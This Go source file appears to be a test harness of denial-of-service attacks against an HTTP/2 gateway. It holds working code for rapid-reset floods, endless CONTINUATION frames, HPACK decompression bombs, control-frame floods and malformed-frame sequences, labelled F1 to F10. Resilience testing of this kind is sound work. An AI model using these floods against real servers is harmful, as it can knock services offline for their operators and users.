package http2

import (
	"fmt"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

const many = 20000

func attacks() []attack {
	reset := func(name string, write func(a *attacker, f *http2.Framer, id uint32) error) attack {
		return attack{name: name, run: func(a *attacker) {
			a.frames(many, func(f *http2.Framer, _ int) error { return write(a, f, a.NextID()) })
		}}
	}
	both := func(first error, then func() error) error {
		if first != nil {
			return first
		}
		return then()
	}
	flood := func(name string, write func(a *attacker, f *http2.Framer, round int) error) attack {
		return attack{name: name, connections: 3, run: func(a *attacker) {
			a.frames(100000, func(f *http2.Framer, round int) error { return write(a, f, round) })
		}}
	}
	return []attack{
		// F1
		{name: "F1 rapid reset", run: func(a *attacker) {
			a.frames(100000, func(f *http2.Framer, _ int) error {
				id := a.NextID()
				return both(a.head(f, id, true), func() error { return f.WriteRSTStream(id, http2.ErrCodeCancel) })
			})
		}},
		{name: "F1 reset at once by hundreds", run: func(a *attacker) {
			a.frames(many/100, func(f *http2.Framer, _ int) error {
				var ids []uint32
				for range 90 {
					id := a.NextID()
					ids = append(ids, id)
					if err := a.head(f, id, true); err != nil {
						return err
					}
				}
				for _, id := range ids {
					if err := f.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
						return err
					}
				}
				return nil
			})
		}},
		// F2
		reset("F2 window overflow of a finished request", func(a *attacker, f *http2.Framer, id uint32) error {
			return both(a.head(f, id, true), func() error { return f.WriteWindowUpdate(id, 1<<31-1) })
		}),
		reset("F2 window update of zero", func(a *attacker, f *http2.Framer, id uint32) error {
			return both(a.head(f, id, true), func() error { return raw(f, http2.FrameWindowUpdate, 0, id, make([]byte, 4)) })
		}),
		reset("F2 priority of a wrong length", func(a *attacker, f *http2.Framer, id uint32) error {
			return both(a.head(f, id, true), func() error { return raw(f, http2.FramePriority, 0, id, make([]byte, 4)) })
		}),
		reset("F2 priority on itself", func(a *attacker, f *http2.Framer, id uint32) error {
			return both(a.head(f, id, true), func() error { return f.WritePriority(id, http2.PriorityParam{StreamDep: id}) })
		}),
		reset("F2 headers after the end", func(a *attacker, f *http2.Framer, id uint32) error {
			return both(a.head(f, id, true), func() error { return a.head(f, id, true) })
		}),
		reset("F2 data after the end", func(a *attacker, f *http2.Framer, id uint32) error {
			return both(a.head(f, id, true), func() error { return f.WriteData(id, true, []byte("x")) })
		}),
		reset("F2 data beyond the length", func(a *attacker, f *http2.Framer, id uint32) error {
			return both(a.head(f, id, false, field("content-length", "1")), func() error { return f.WriteData(id, false, []byte("xx")) })
		}),
		reset("F2 malformed field", func(a *attacker, f *http2.Framer, id uint32) error { return a.head(f, id, true, field("X-Upper", "1")) }),
		reset("F2 bad trailer", func(a *attacker, f *http2.Framer, id uint32) error {
			return both(a.head(f, id, false), func() error {
				return f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: a.Block(hpack.HeaderField{Name: ":path", Value: "/"}), EndStream: true, EndHeaders: true})
			})
		}),
		// F3
		{name: "F3 endless continuation", run: func(a *attacker) {
			a.Lock()
			id := a.NextID()
			block := a.Block(a.w.fields("GET", "/attack")...)
			_ = a.Framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true})
			a.Unlock()
			a.frames(many, func(f *http2.Framer, round int) error {
				return f.WriteContinuation(id, false, a.Block(hpack.HeaderField{Name: fmt.Sprint("x-", round), Value: strings.Repeat("v", 100)}))
			})
		}},
		{name: "F3 empty continuations", run: func(a *attacker) {
			a.Lock()
			id := a.NextID()
			_ = a.Framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: a.Block(a.w.fields("GET", "/attack")...), EndStream: true})
			a.Unlock()
			a.frames(many, func(f *http2.Framer, _ int) error { return f.WriteContinuation(id, false, nil) })
		}},
		{name: "F3 many requests of eight continuations each", run: func(a *attacker) {
			a.frames(2000, func(f *http2.Framer, _ int) error {
				id := a.NextID()
				err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: a.Block(a.w.fields("GET", "/attack")...), EndStream: true})
				for n := range 8 {
					err = both(err, func() error {
						return f.WriteContinuation(id, n == 7, a.Block(hpack.HeaderField{Name: "x-a", Value: strings.Repeat("v", 2000), Sensitive: true}))
					})
				}
				return err
			})
		}},
		// F4, F5
		{name: "F4 one byte a field", run: func(a *attacker) {
			a.frames(500, func(f *http2.Framer, _ int) error { return a.bomb(f, "x", "y", 16000, 0) })
		}},
		{name: "F4 one byte a field, with continuations", run: func(a *attacker) {
			a.frames(100, func(f *http2.Framer, _ int) error { return a.bomb(f, "x", "y", 16000, 8) })
		}},
		{name: "F4 crumbs", run: func(a *attacker) {
			a.frames(500, func(f *http2.Framer, _ int) error { return a.bomb(f, "cookie", "a=b", 16000, 0) })
		}},
		{name: "F5 large entry", run: func(a *attacker) {
			a.frames(500, func(f *http2.Framer, _ int) error { return a.bomb(f, "x", strings.Repeat("y", 4000), 12000, 0) })
		}},
		flood("F5 table size flips", func(a *attacker, f *http2.Framer, round int) error {
			return f.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: uint32(round % 2 * 4096)})
		}),
		// F6
		flood("F6 settings", func(a *attacker, f *http2.Framer, _ int) error { return f.WriteSettings() }),
		flood("F6 settings of many values", func(a *attacker, f *http2.Framer, _ int) error {
			settings := make([]http2.Setting, 100)
			for i := range settings {
				settings[i] = http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(65535 + i)}
			}
			return f.WriteSettings(settings...)
		}),
		flood("F6 ping", func(a *attacker, f *http2.Framer, round int) error { return f.WritePing(false, [8]byte{byte(round)}) }),
		flood("F6 unasked ping answers", func(a *attacker, f *http2.Framer, round int) error { return f.WritePing(true, [8]byte{byte(round)}) }),
		flood("F6 priority of idle streams", func(a *attacker, f *http2.Framer, round int) error {
			return f.WritePriority(uint32(2*(round%1000)+1), http2.PriorityParam{Weight: byte(round)})
		}),
		{name: "F6 empty data", connections: 3, run: func(a *attacker) {
			a.Lock()
			id := a.NextID()
			err := a.head(a.Framer, id, false)
			a.Unlock()
			if err == nil {
				a.frames(100000, func(f *http2.Framer, _ int) error { return f.WriteData(id, false, nil) })
			}
		}},
		{name: "F6 padded empty data", connections: 3, run: func(a *attacker) {
			a.Lock()
			id := a.NextID()
			err := a.head(a.Framer, id, false)
			a.Unlock()
			if err == nil {
				a.frames(100000, func(f *http2.Framer, _ int) error {
					return raw(f, http2.FrameData, http2.FlagDataPadded, id, []byte{0})
				})
			}
		}},
		flood("F6 window updates by one", func(a *attacker, f *http2.Framer, _ int) error { return f.WriteWindowUpdate(0, 1) }),
		flood("F6 unknown frames", func(a *attacker, f *http2.Framer, round int) error {
			return raw(f, http2.FrameType(0x40+round%100), 0, 0, []byte("hello"))
		}),
		flood("F6 resets of closed streams", func(a *attacker, f *http2.Framer, round int) error {
			if round == 0 {
				return both(a.head(f, 1, true), func() error { return f.WriteRSTStream(1, http2.ErrCodeCancel) })
			}
			return f.WriteRSTStream(1, http2.ErrCodeCancel)
		}),
		flood("F6 fields without a name", func(a *attacker, f *http2.Framer, _ int) error { return a.head(f, a.NextID(), true, field("", "")) }),
		// F9, F10
		{name: "F9 data after a reset", connections: 20, endless: true, run: func(a *attacker) {
			a.frames(100, func(f *http2.Framer, _ int) error {
				id := a.NextID()
				return both(a.head(f, id, false), func() error {
					return both(f.WriteData(id, false, []byte("hello")), func() error {
						return both(f.WriteRSTStream(id, http2.ErrCodeCancel), func() error { return f.WriteData(id, true, []byte("world")) })
					})
				})
			})
		}},
		{name: "F10 bad frames behind the one that ended it", connections: 20, endless: true, run: func(a *attacker) {
			a.Lock()
			defer a.Unlock()
			_ = a.head(a.Framer, a.NextID(), true)
			_ = raw(a.Framer, http2.FramePing, 0, 0, make([]byte, 7))
			_ = raw(a.Framer, http2.FrameData, 0, 0, []byte("x"))
			_ = raw(a.Framer, http2.FrameHeaders, 0xff, 0, []byte("\xff\xff\xff\xff"))
			_ = raw(a.Framer, http2.FrameSettings, 0, 1, make([]byte, 5))
			_ = raw(a.Framer, http2.FrameWindowUpdate, 0, 0, nil)
			_ = raw(a.Framer, http2.FrameGoAway, 0, 0, nil)
			_ = raw(a.Framer, http2.FrameContinuation, 4, 7, []byte("x"))
			_ = raw(a.Framer, http2.FramePushPromise, 4, 1, make([]byte, 4))
			_, _ = a.Conn.Write([]byte("\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff"))
		}},
		{name: "GOAWAY by the client, again and again", connections: 3, endless: true, run: func(a *attacker) {
			a.frames(10000, func(f *http2.Framer, _ int) error { return f.WriteGoAway(0, http2.ErrCodeNo, []byte("bye")) })
		}},
	}
}

// bomb sends a request whose block holds one entry and then references to it, one byte each.
func (a *attacker) bomb(f *http2.Framer, name, value string, references, continuations int) error {
	id := a.NextID()
	// None of these goes into the table, so that the encoder's and the gateway's stay the same but for our entry.
	fields := a.w.fields("GET", "/attack")
	for i := range fields {
		fields[i].Sensitive = true
	}
	block := a.Block(fields...)
	// A literal with incremental indexing; field 62 is the newest entry then.
	block = append(block, 0x40, byte(len(name)))
	block = append(block, name...)
	if len(value) < 127 {
		block = append(block, byte(len(value)))
	} else {
		block = append(block, 0x7f)
		rest := len(value) - 127
		for ; rest >= 128; rest >>= 7 {
			block = append(block, byte(rest&127)|128)
		}
		block = append(block, byte(rest))
	}
	block = append(block, value...)
	block = append(block, []byte(strings.Repeat("\xbe", max(0, min(references, 16384-len(block)))))...)
	err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndStream: true, EndHeaders: continuations == 0})
	for n := range continuations {
		if err == nil {
			err = f.WriteContinuation(id, n == continuations-1, []byte(strings.Repeat("\xbe", 16384)))
		}
	}
	return err
}
